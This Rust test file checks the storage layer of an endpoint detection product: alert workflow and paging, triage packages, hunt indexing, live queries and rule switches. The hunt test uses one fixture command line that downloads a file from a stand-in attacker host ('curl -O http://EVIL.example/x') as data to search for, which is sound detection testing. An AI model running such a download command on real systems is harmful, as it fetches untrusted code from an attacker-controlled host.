//! The contract on alerts, hunting, live queries, rule switches and triage packages.

use serde_json::json;
use vigil_ocsf::Severity;

use super::{Backend, audit_actions, enrolled, event, finding, new_command};
use crate::store::{
    AlertUpdate, FindingQuery, FindingRow, HuntQuery, HuntTerm, LiveQuery, QueryTarget, Store,
    StoreError,
};

pub(crate) async fn a_triage_result_is_kept_as_a_package<B: Backend>(b: &B) {
    let store = b.open().await;
    enrolled(&store, "s1").await;
    let cmd = store
        .enqueue_command(&new_command("triage", None), 10)
        .await
        .unwrap();
    let package = json!({"schema": "vigil.triage/1", "phases": {
        "processes": {"items": [1, 2, 3], "truncated": false, "error": null}}});
    store
        .complete_command("s1", &cmd.id, true, &package, 20)
        .await
        .unwrap();
    let (done, _) = store.command("s1", &cmd.id).await.unwrap().unwrap();
    assert_eq!(done.result.as_ref().unwrap()["package_id"], cmd.id.as_str());
    let list = store.triage_packages("s1", 10).await.unwrap();
    assert_eq!(list.len(), 1);
    assert_eq!((list[0].id.as_str(), list[0].time), (cmd.id.as_str(), 20));
    assert_eq!(list[0].summary["phases"]["processes"]["items"], 3);
    let body = store.triage_package("s1", &cmd.id).await.unwrap().unwrap();
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap(),
        package
    );
    assert_eq!(list[0].size, i64::try_from(body.len()).unwrap());
    assert!(store.triage_package("s2", &cmd.id).await.unwrap().is_none());
}

pub(crate) async fn alerts_follow_the_workflow_and_page_by_position<B: Backend>(b: &B) {
    let store = b.open().await;
    let findings = vec![
        ("s1".to_owned(), finding("f1", 100, Severity::Low, "r1")),
        ("s1".to_owned(), finding("f2", 200, Severity::High, "r2")),
        (
            "s2".to_owned(),
            finding("f3", 200, Severity::Critical, "r2"),
        ),
    ];
    store
        .commit_findings("detect", 3, &findings, &[])
        .await
        .unwrap();
    let uids = |rows: &[FindingRow]| {
        rows.iter()
            .map(|r| r.body["finding_info"]["uid"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let q = |q: FindingQuery| FindingQuery { limit: 10, ..q };
    let all = store.query_findings(&q(Default::default())).await.unwrap();
    assert_eq!(uids(&all), ["f3", "f2", "f1"]);
    let page2 = store
        .query_findings(&FindingQuery {
            before: Some((all[0].time, all[0].seq)),
            ..q(Default::default())
        })
        .await
        .unwrap();
    assert_eq!(uids(&page2), ["f2", "f1"]);
    let severe = store
        .query_findings(&q(FindingQuery {
            min_severity: Some(4),
            sensor_id: Some("s1".into()),
            ..Default::default()
        }))
        .await
        .unwrap();
    assert_eq!(uids(&severe), ["f2"]);
    let by_rule = store
        .query_findings(&q(FindingQuery {
            rule_id: Some("r2".into()),
            since: Some(150),
            until: Some(250),
            ..Default::default()
        }))
        .await
        .unwrap();
    assert_eq!(uids(&by_rule), ["f3", "f2"]);

    let ack = AlertUpdate {
        status: Some("acknowledged".into()),
        assignee: Some("bob".into()),
        ..Default::default()
    };
    let a = store
        .update_alert("f2", &ack, "user:alice", 300)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (
            a.workflow.status.as_str(),
            a.workflow.assignee.as_deref(),
            a.workflow.updated_at
        ),
        ("acknowledged", Some("bob"), Some(300))
    );
    let no_verdict = AlertUpdate {
        status: Some("closed".into()),
        ..Default::default()
    };
    let err = store
        .update_alert("f2", &no_verdict, "user:alice", 301)
        .await
        .unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err}");
    let close = AlertUpdate {
        status: Some("closed".into()),
        verdict: Some("true_positive".into()),
        assignee: Some(String::new()),
    };
    let closed = store
        .update_alert("f2", &close, "user:alice", 302)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(closed.workflow.verdict.as_deref(), Some("true_positive"));
    assert_eq!(closed.workflow.assignee, None);
    let reopen = AlertUpdate {
        status: Some("new".into()),
        ..Default::default()
    };
    let err = store
        .update_alert("f2", &reopen, "user:alice", 303)
        .await
        .unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err}");
    assert!(
        store
            .update_alert("nope", &ack, "user:alice", 303)
            .await
            .unwrap()
            .is_none()
    );
    assert!(
        store
            .comment_alert("f2", "alice", "seen", 304)
            .await
            .unwrap()
    );
    assert!(store.comment_alert("f2", "bob", "ok", 305).await.unwrap());
    assert!(!store.comment_alert("nope", "bob", "x", 305).await.unwrap());
    let alert = store.alert("f2").await.unwrap().unwrap();
    assert_eq!(alert.sensor_id, "s1");
    assert_eq!(alert.finding["finding_info"]["uid"], "f2");
    let comments: Vec<_> = alert.comments.iter().map(|c| c.text.as_str()).collect();
    assert_eq!(comments, ["seen", "ok"]);
    assert!(store.alert("nope").await.unwrap().is_none());
    let closed_only = store
        .query_findings(&q(FindingQuery {
            status: Some("closed".into()),
            ..Default::default()
        }))
        .await
        .unwrap();
    assert_eq!(uids(&closed_only), ["f2"]);
    assert_eq!(
        audit_actions(&store, Some("alert:f2".into())).await,
        ["alert.updated", "alert.updated"]
    );
}

pub(crate) async fn hunts_find_terms_and_command_lines_newest_first<B: Backend>(b: &B) {
    let store = b.open().await;
    store
        .insert_events("s1", &[event("a", 10), event("b", 20), event("c", 30)])
        .await
        .unwrap();
    let log = store.events_after(0, 10).await.unwrap().events;
    let seq = |i: usize| log[i].seq;
    let term = |kind: &'static str, value: &str, i: usize| HuntTerm {
        kind,
        value: value.into(),
        seq: seq(i),
        sensor_id: "s1".into(),
        time: log[i].event.time,
    };
    let terms = vec![
        term("name", "curl", 0),
        term("name", "curl", 2),
        term("user", "root", 2),
        term("name", "sh", 1),
        term("name", "sh", 1),
    ];
    let cmd_lines = vec![
        (seq(0), "curl -O http://EVIL.example/x".to_owned()),
        (seq(2), "curl 50%_off".to_owned()),
    ];
    store
        .index_hunt("hunt", seq(2), &terms, &cmd_lines)
        .await
        .unwrap();
    assert_eq!(store.cursor("hunt").await.unwrap(), seq(2));
    // Indexing a page again (a restart before the cursor moved) changes nothing.
    store
        .index_hunt("hunt", seq(2), &terms, &cmd_lines)
        .await
        .unwrap();
    let hunt = |terms: &[(&str, &str)], cmd: Option<&str>, since: Option<i64>| {
        let store = &store;
        let q = HuntQuery {
            terms: terms
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            cmd_line: cmd.map(str::to_owned),
            since,
            until: None,
            limit: 10,
        };
        async move {
            store
                .hunt(&q)
                .await
                .unwrap()
                .iter()
                .map(|(s, e)| format!("{s}/{}", e["metadata"]["uid"].as_str().unwrap()))
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(
        hunt(&[("name", "curl")], None, None).await,
        ["s1/c", "s1/a"]
    );
    assert_eq!(hunt(&[("name", "curl")], None, Some(15)).await, ["s1/c"]);
    assert_eq!(
        hunt(&[("name", "curl"), ("user", "root")], None, None).await,
        ["s1/c"]
    );
    assert_eq!(hunt(&[("name", "sh")], None, None).await, ["s1/b"]);
    assert_eq!(hunt(&[], Some("evil.EXAMPLE"), None).await, ["s1/a"]);
    assert_eq!(hunt(&[], Some("50%_"), None).await, ["s1/c"]);
    assert!(hunt(&[], Some("0%x"), None).await.is_empty());
    assert_eq!(
        hunt(&[("name", "curl")], Some("http"), None).await,
        ["s1/a"]
    );
}

/// Pages with more distinct command lines than one statement takes, some seen on an earlier
/// page: every event is found by its own text, and a repeated text by all its events.
pub(crate) async fn many_distinct_command_lines_index_in_pages<B: Backend>(b: &B) {
    let store = b.open().await;
    let events: Vec<_> = (0..1_200).map(|i| event(&format!("e{i}"), i)).collect();
    store.insert_events("s1", &events).await.unwrap();
    let log = store.events_after(0, 2_000).await.unwrap().events;
    assert_eq!(log.len(), 1_200);
    // Event i runs "job-<i> --unique" except every tenth, which runs a shared text.
    let text = |i: usize| {
        if i.is_multiple_of(10) {
            "systemctl restart shared-unit".to_owned()
        } else {
            format!("worker --job job-{i:04}x --unique")
        }
    };
    for page in log.chunks(700) {
        let cmd_lines: Vec<(i64, String)> = page
            .iter()
            .map(|e| {
                let i: usize = e.event.uid[1..].parse().unwrap();
                (e.seq, text(i))
            })
            .collect();
        let last = page.last().unwrap().seq;
        store
            .index_hunt("hunt", last, &[], &cmd_lines)
            .await
            .unwrap();
    }
    let hunt = |cmd: String, limit: u32| {
        let store = &store;
        let q = HuntQuery {
            terms: Vec::new(),
            cmd_line: Some(cmd),
            since: None,
            until: None,
            limit,
        };
        async move {
            let mut uids: Vec<String> = store
                .hunt(&q)
                .await
                .unwrap()
                .iter()
                .map(|(_, e)| e["metadata"]["uid"].as_str().unwrap().to_owned())
                .collect();
            uids.sort();
            uids
        }
    };
    for i in [1, 499, 501, 699, 701, 1_199] {
        assert_eq!(hunt(format!("job-{i:04}x"), 10).await, [format!("e{i}")]);
    }
    let shared = hunt("shared-unit".into(), 1_000).await;
    assert_eq!(shared.len(), 120, "every tenth event, on both pages");
}

pub(crate) async fn live_queries_and_rule_switches_are_kept<B: Backend>(b: &B) {
    let store = b.open().await;
    let lq = |id: &str, created_at: i64| LiveQuery {
        id: id.into(),
        sql: "SELECT * FROM processes".into(),
        requested_by: "user:alice".into(),
        created_at,
        deadline: created_at + 60_000,
        targets: vec![
            QueryTarget {
                sensor_id: "s1".into(),
                command_id: Some("c1".into()),
                refused: None,
            },
            QueryTarget {
                sensor_id: "s2".into(),
                command_id: None,
                refused: Some("no sensor".into()),
            },
        ],
    };
    store.create_live_query(&lq("q1", 10)).await.unwrap();
    store.create_live_query(&lq("q2", 20)).await.unwrap();
    assert_eq!(store.live_query("q1").await.unwrap(), Some(lq("q1", 10)));
    assert!(store.live_query("nope").await.unwrap().is_none());
    let ids: Vec<_> = store
        .live_queries(10)
        .await
        .unwrap()
        .into_iter()
        .map(|q| q.id)
        .collect();
    assert_eq!(ids, ["q2", "q1"]);
    assert_eq!(store.live_queries(1).await.unwrap().len(), 1);

    assert!(store.rules_off().await.unwrap().is_empty());
    store
        .switch_rule("r2", false, "user:alice", 5)
        .await
        .unwrap();
    store
        .switch_rule("r1", false, "user:alice", 6)
        .await
        .unwrap();
    store.switch_rule("r2", true, "user:bob", 7).await.unwrap();
    assert_eq!(store.rules_off().await.unwrap(), ["r1"]);
    assert_eq!(
        audit_actions(&store, Some("rule:r2".into())).await,
        ["rule.enabled", "rule.disabled"]
    );
}
